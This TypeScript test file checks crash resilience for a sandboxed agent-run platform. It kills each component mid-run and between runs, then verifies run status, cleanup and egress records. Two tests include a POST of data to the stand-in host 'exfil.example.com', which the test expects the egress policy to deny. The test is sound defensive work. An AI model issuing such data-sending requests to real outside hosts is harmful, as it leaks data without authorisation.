import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eventually, showLogOnFailure, startStack, type TestStack } from './harness.ts';
import { mountsOf, processesOf } from './support/leftovers.ts';
import { ask, nextRunWorks, noSandboxLeft, startRun, type StartedRun } from './support/runs.ts';

/**
 * Every process killed with SIGKILL in the middle of a run: the invocation ends in a phase that is true, nothing is left
 * over, what comes while it is away is refused or served correctly, and the next run works by itself.
 */

let stack: TestStack;
beforeAll(async () => {
  stack = await startStack();
});
afterAll(() => stack?.[Symbol.asyncDispose]());
beforeEach(() => showLogOnFailure(() => stack));

/** Starts a run and resolves when its request is at the provider, which then takes 200 ms a token: the run is in the middle of its work. */
const inTheMiddle = async (tokens: number, ...before: object[]): Promise<StartedRun> => {
  const run = startRun(stack, [...before, { must: ask('gpt-4.1-slow', tokens) }]);
  await stack.seenOf(run.traceId);
  return run;
};

afterEach(async () => {
  await nextRunWorks(stack);
  await noSandboxLeft(stack);
  // A process that is just starting another one shows up twice for a moment.
  const programs = ['controller-manager', 'dispatcher', 'worker', 'egress', 'front', 'recorder', 'store', 'envoy'];
  await eventually('each program runs once', async () => {
    const counts = await Promise.all(programs.map(async (name) => [name, (await stack.pids(name)).length] as const));
    if (counts.some(([, count]) => count !== 1)) throw new Error(JSON.stringify(counts));
    return true;
  });
});

describe('in the middle of a run', () => {
  it('worker: the run ends Failed/WorkerLost, its sandbox, Envoy and services die with it', async () => {
    const run = await inTheMiddle(100);
    const [envoy, egress] = [await stack.pids('envoy'), await stack.pids('egress')];
    const mountsBefore = await mountsOf(stack.devPid, stack.run);
    expect((await processesOf(stack.run)).some(({ argv }) => /runsc/.test(argv[0]!))).toBe(true);
    const worker = await stack.kill('worker');
    const answer = await run.answer;
    expect(answer.status).toBe(502);
    expect(answer.json()).toMatchObject({ error: { reason: 'WorkerLost', invocation: run.id } });
    expect((await stack.ended(run.id)).status).toMatchObject({ phase: 'Failed', reason: 'WorkerLost' });
    await stack.restarted('worker', worker);
    const alive = (await processesOf(stack.run)).map(({ pid }) => pid);
    expect([...envoy, ...egress].filter((pid) => alive.includes(pid))).toEqual([]);
    await nextRunWorks(stack);
    await noSandboxLeft(stack);
    await eventually('mounts of the lost sandbox are gone', async () =>
      (await mountsOf(stack.devPid, stack.run)).length <= mountsBefore.length ? true : undefined,
    );
    const records = await stack.egressLog(run.id, (all) => all.length > 0);
    expect(records[0]).toMatchObject({ host: 'api.openai.com', model: 'gpt-4.1-slow' });
  });

  it('Envoy: the agent sees its connection break, the run ends as the agent ends, the record says GatewayDied', async () => {
    const run = await inTheMiddle(100);
    const envoy = await stack.kill('envoy');
    const answer = await run.answer;
    expect(answer.status).toBe(502);
    expect(answer.json()).toMatchObject({ error: { exitCode: 1 } });
    expect((await stack.ended(run.id)).status).toMatchObject({ phase: 'Failed', exitCode: 1 });
    await stack.restarted('envoy', envoy);
    const records = await stack.egressLog(run.id, (all) => all.some(({ reason }) => reason === 'GatewayDied'));
    expect(records.filter(({ host }) => host === 'api.openai.com')).toHaveLength(1);
    expect(records[0]!.outputTokens).toBeNull();
  });

  it('egress: the open stream goes on to its end', async () => {
    const run = await inTheMiddle(15);
    await stack.restarted('egress', await stack.kill('egress'));
    const answer = await run.answer;
    expect(answer.status).toBe(200);
    expect(answer.text).toContain('[DONE]');
    await stack.egressLog(run.id, (all) => all.some(({ verdict }) => verdict === 'Allowed'));
  });

  it('front: the open stream goes on, names resolve again', async () => {
    const run = await inTheMiddle(15);
    await stack.restarted('front', await stack.kill('front'));
    expect((await run.answer).status).toBe(200);
  });

  it.each(['recorder', 'store'])('%s: the run does not notice, and its records are complete', async (component) => {
    const run = await inTheMiddle(15, { fetch: { url: 'https://exfil.example.com/a', method: 'POST', body: 'x' } });
    await stack.restarted(component, await stack.kill(component));
    expect((await run.answer).status).toBe(200);
    const records = await stack.egressLog(run.id, (all) => all.filter(({ protocol }) => protocol === 'https').length >= 2, 30_000);
    expect(records.filter(({ protocol }) => protocol === 'https').map(({ verdict, host }) => [verdict, host])).toEqual([
      ['Denied', 'exfil.example.com'],
      ['Allowed', 'api.openai.com'],
    ]);
  });

  it('dispatcher: the caller is told nothing false, and the invocation ends exactly once', async () => {
    const run = await inTheMiddle(15);
    await stack.restarted('dispatcher', await stack.kill('dispatcher'));
    await expect(run.answer).rejects.toThrow();
    const { status } = await stack.ended(run.id, 30_000);
    expect(['Succeeded', 'Failed']).toContain(status.phase);
    if (status.phase === 'Failed') expect(status.reason).toBeTruthy();
    const records = await stack.egressLog(run.id, (all) => all.length > 0);
    expect(records[0]).toMatchObject({ host: 'api.openai.com' });
    expect((await stack.invocation(run.id)).status.phase).toBe(status.phase);
  });

  it('controller-manager: runs go on and new ones start without it', async () => {
    const run = await inTheMiddle(15);
    const before = await stack.kill('controller-manager');
    const during = await stack.invoke('probe', { steps: [ask('gpt-4.1-mini', 20)] });
    expect(during.status).toBe(200);
    expect((await run.answer).status).toBe(200);
    await stack.restarted('controller-manager', before);
    expect((await stack.ended(run.id)).status.phase).toBe('Succeeded');
  });
});

describe('between runs', () => {
  it.each(['egress', 'front', 'recorder', 'store', 'dispatcher', 'controller-manager', 'worker', 'envoy'])(
    '%s: new traffic is refused or served correctly, and back within seconds',
    async (component) => {
      const seen = (await stack.seen()).length;
      const before = await stack.kill(component);
      const answer = await stack
        .invoke('probe', { steps: [ask('gpt-4.1-mini', 20), { fetch: { url: 'https://exfil.example.com/b', method: 'POST', body: 'x' } }] })
        .catch((error: Error) => error);
      if (!(answer instanceof Error)) {
        expect([200, 502, 503, 504]).toContain(answer.status);
        if (answer.status === 200) {
          const { results } = answer.json() as { results: { status?: number }[] };
          expect([200, 503, undefined]).toContain(results[0]!.status);
          expect([403, 503, undefined]).toContain(results[1]!.status); // never let through
        }
      }
      await stack.restarted(component, before);
      const worked = await nextRunWorks(stack);
      await stack.egressLog(worked.invocation, (all) => all.some(({ outputTokens }) => outputTokens !== null), 30_000);
      for (const { headers } of (await stack.seen()).slice(seen)) expect(headers['authorization']).toBe(`Bearer ${stack.key}`);
    },
  );
});

it('clrk dev itself: everything dies with it, and the next start works on the same state', async () => {
  const run = await inTheMiddle(100);
  await stack.killDev();
  await expect(run.answer).rejects.toThrow();
  await eventually('every process is gone', async () => ((await processesOf(stack.state, stack.run)).length === 0 ? true : undefined));
  await stack.start();
  await stack.programmed();
  expect((await stack.ended(run.id)).status).toMatchObject({ phase: 'Failed' });
});
